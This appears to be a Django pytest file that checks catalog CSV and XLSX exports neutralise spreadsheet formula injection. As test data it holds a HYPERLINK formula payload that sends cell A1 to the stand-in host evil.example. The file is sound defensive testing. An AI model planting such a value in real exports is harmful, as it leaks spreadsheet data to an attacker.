"""A hostile cell in a catalog export is written as text, never as a formula (issue 16, item 6)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bridge.accounts.tests.factories import OrganisationFactory
from bridge.core.spreadsheets import cell_for_spreadsheet, cell_from_spreadsheet
from bridge.materials.tests.factories_supplier import published

pytestmark = pytest.mark.integration

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_read_back(start):
    assert cell_for_spreadsheet(start + "1+1") == "'" + start + "1+1"
    assert cell_from_spreadsheet("'" + start + "1+1") == start + "1+1"


def test_ordinary_values_are_untouched():
    assert cell_for_spreadsheet("Adras paxta") == "Adras paxta"
    assert cell_for_spreadsheet(-5) == -5
    assert cell_from_spreadsheet("'quoted'") == "'quoted'"


@pytest.fixture
def hostile(db):
    supplier = OrganisationFactory(slug="evil-silk", country="UZ")
    return published(supplier=supplier, sku="EV-1", name=HOSTILE)


def test_csv_export_writes_the_hostile_name_as_text(client, hostile):
    response = client.get(reverse("materials_supplier:export", args=["csv"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text


def test_xlsx_export_writes_the_hostile_name_as_text(client, hostile):
    response = client.get(reverse("materials_supplier:export", args=["xlsx"]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(data)).active
    names = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + HOSTILE]
